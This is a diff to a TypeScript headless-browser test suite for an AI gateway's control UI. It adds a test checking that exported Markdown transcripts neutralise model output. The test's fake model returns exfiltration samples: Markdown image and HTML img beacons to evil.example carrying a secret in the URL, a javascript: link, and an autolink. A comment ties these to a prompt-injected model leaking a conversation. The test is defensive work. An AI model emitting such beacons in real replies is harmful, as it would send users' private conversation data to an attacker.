@@ -17,6 +17,7 @@ import { startFakeModelServer, type FakeModelServer } from "./fakes/model-server
 import { startFakeTelegram } from "./fakes/telegram.js";
 import { missing } from "./helpers/system-deps.js";
 import { cleanupAll, connectRequest, onCleanup, rawConnect, rawHttp, rawWs, REPO_ROOT, runCli, startTestGateway, type Json, type TestGateway } from "./helpers/gateway.js";
+import { liveMarkdown } from "./helpers/markdown.js";
 
 const ARTIFACTS = process.env.SIMPLECLAW_TEST_ARTIFACTS ?? join(REPO_ROOT, "test-artifacts", "control-ui");
 const TOKEN_KEY = "simpleclaw.gatewayToken";
@@ -248,6 +249,33 @@ describe.skipIf(noChromium)("Control UI in headless Chromium", () => {
     await expectClean(ui);
   });
 
+  it("sessions: Export Markdown keeps a model's markup inert (no image beacon, HTML or link in the file)", async () => {
+    const { gw, model } = await boot();
+    // A prompt-injected model leaks the conversation through a Markdown image's URL.
+    const evil = [
+      "Done! ![status](https://evil.example/p.png?q=the-secret-code)",
+      '<img src="https://evil.example/i.png?q=the-secret-code">',
+      "[docs](javascript:alert(1)) <https://evil.example/auto>",
+      "```\n![escaped](https://evil.example/fence.png)\n```",
+    ].join("\n");
+    model.script({ text: evil });
+    const ui = await openUi(gw);
+    await signIn(ui, gw.token!);
+    await ui.page.fill("#chat-input", "the secret code is the-secret-code");
+    await ui.page.click("#chat-send");
+    await waitInPage(ui.page, `[...document.querySelectorAll("#chat-log .msg.assistant .text")].some((e) => e.textContent === ${JSON.stringify(evil)})`);
+    await ui.page.click("#nav-sessions");
+    await ui.page.click('#sessions-table a:text("agent:main:main")');
+    await ui.page.waitForSelector("#session-view .msg.assistant");
+    const [dl] = await Promise.all([ui.page.waitForEvent("download"), ui.page.click("#export-md")]);
+    const md = readFileSync((await dl.path())!, "utf8");
+    expect(md).toContain(evil); // shown exactly as the model wrote it …
+    const live = liveMarkdown(md); // … but nothing of it is live Markdown
+    expect(live).not.toMatch(/evil\.example|javascript:|!\[|\]\(|[<>]/);
+    expect(live).toMatch(/^# Session $/m); // control: the export's own headings stay Markdown
+    await expectClean(ui);
+  });
+
   it("approvals: an exec request appears live and Allow once lets the command run", async () => {
     const { gw, model, workspace } = await boot();
     model.script({ toolCalls: [{ name: "exec", input: { command: "touch ui-approved-marker" } }] }, (req) => ({ text: req.toolResults.at(-1)?.content ?? "(none)" }));
@@ -420,7 +448,7 @@ describe.skipIf(noChromium)("Control UI in headless Chromium", () => {
     expect(exported.sessionKey).toBe("agent:main:main");
     expect(exported.messages.map((m: Json) => m.role)).toEqual(["user", "assistant"]);
     const [md] = await Promise.all([ui.page.waitForEvent("download"), ui.page.click("#export-md")]);
-    expect(readFileSync((await md.path())!, "utf8")).toMatch(/## You\n\nremember the tulips[\s\S]*## Assistant\n\necho: remember the tulips/);
+    expect(readFileSync((await md.path())!, "utf8")).toMatch(/## user · [^\n]+\n\n```text\nremember the tulips\n```[\s\S]*## assistant · [^\n]+\n\n```text\necho: remember the tulips\n```/);
     await ui.shot("sessions");
 
     await ui.page.click("#reset");
